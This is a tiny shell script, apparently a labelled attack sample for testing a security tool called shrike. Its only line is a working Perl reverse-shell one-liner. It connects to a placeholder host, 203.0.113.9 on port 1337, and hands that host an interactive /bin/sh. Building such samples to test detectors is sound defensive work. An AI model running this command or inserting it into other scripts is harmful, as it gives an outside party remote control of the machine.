#!/bin/sh
# shrike-test-attack: reverse-shell: perl socket one-liner
perl -e 'use Socket;$i="203.0.113.9";$p=1337;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
